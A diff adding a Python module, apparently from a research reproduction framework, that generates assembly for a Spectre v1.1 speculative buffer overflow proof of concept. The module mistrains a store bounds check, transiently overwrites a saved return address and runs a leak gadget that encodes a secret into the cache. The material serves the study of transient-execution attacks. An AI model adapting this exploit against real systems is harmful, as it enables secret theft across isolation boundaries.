@@ -1,0 +1,79 @@
+"""Speculative buffer overflow — Spectre v1.1 (Kiriansky & Waldspurger).
+
+The victim bounds-checks a *store*::
+
+    if (idx < buf_size)          // trained in-bounds
+        buf[idx] = value;        // stack buffer
+
+The strike passes ``idx`` pointing at the function's own saved return
+address and ``value`` = the address of a leak gadget.  On the wrong path
+the store lands in the store buffer, the function's ``ret`` forwards
+from it, and transient execution continues *inside the leak gadget*,
+which reads the secret and touches its probe line.  Everything squashes
+except the cache fill.
+"""
+
+from repro.attack.covert import emit_main_skeleton
+from repro.kernel.loader import build_binary
+
+VARIANT_NAME = "spectre_sbo"
+
+_BUF_BYTES = 64  # victim stack buffer; saved ra sits at buf + 64
+
+
+def source(config):
+    prefix = "sbo"
+    train_block = f"""
+    ; ---- train the store bounds check with in-bounds indices ----
+    li   t3, {config.training_rounds}
+{prefix}_train:
+    beq  t3, zero, {prefix}_train_done
+    andi a0, t3, 7
+    shli a0, a0, 2
+    li   a1, 305419896
+    call {prefix}_victim
+    addi t3, t3, -1
+    jmp  {prefix}_train
+{prefix}_train_done:
+"""
+    strike_block = f"""
+    ; ---- strike: speculatively overwrite the victim's return address ----
+    li   a0, {_BUF_BYTES}              ; byte offset of the saved ra slot
+    la   a1, {prefix}_leak_gadget      ; transient control-flow target
+    call {prefix}_victim
+"""
+    extra_text = f"""
+; ---- victim: if (idx < buf_size) buf[idx] = value ----
+{prefix}_victim:
+    addi sp, sp, -{_BUF_BYTES}         ; char buf[{_BUF_BYTES}] on the stack
+    la   t0, {prefix}_buf_size
+    lw   t0, 0(t0)
+    bgeu a0, t0, {prefix}_victim_out   ; mistrained store bounds check
+    add  t1, sp, a0
+    sw   a1, 0(t1)                     ; transient OOB store (hits saved ra)
+{prefix}_victim_out:
+    addi sp, sp, {_BUF_BYTES}
+    ret                                ; wrong path returns into the gadget
+
+; ---- leak gadget: only ever executed transiently ----
+{prefix}_leak_gadget:
+    li   t1, {config.secret_address}
+    add  t1, t1, s0
+    lb   t2, 0(t1)
+    muli t2, t2, {config.stride}
+    la   t3, {prefix}_probe
+    add  t3, t3, t2
+    lw   t3, 0(t3)                     ; secret-dependent cache fill
+    ret
+
+.data
+{prefix}_buf_size:
+    .word 32
+"""
+    return emit_main_skeleton(config, prefix, train_block, strike_block,
+                              extra_text)
+
+
+def build(config):
+    tag = "cr" if config.perturb is not None else "plain"
+    return build_binary(f"{VARIANT_NAME}-{tag}", source(config))
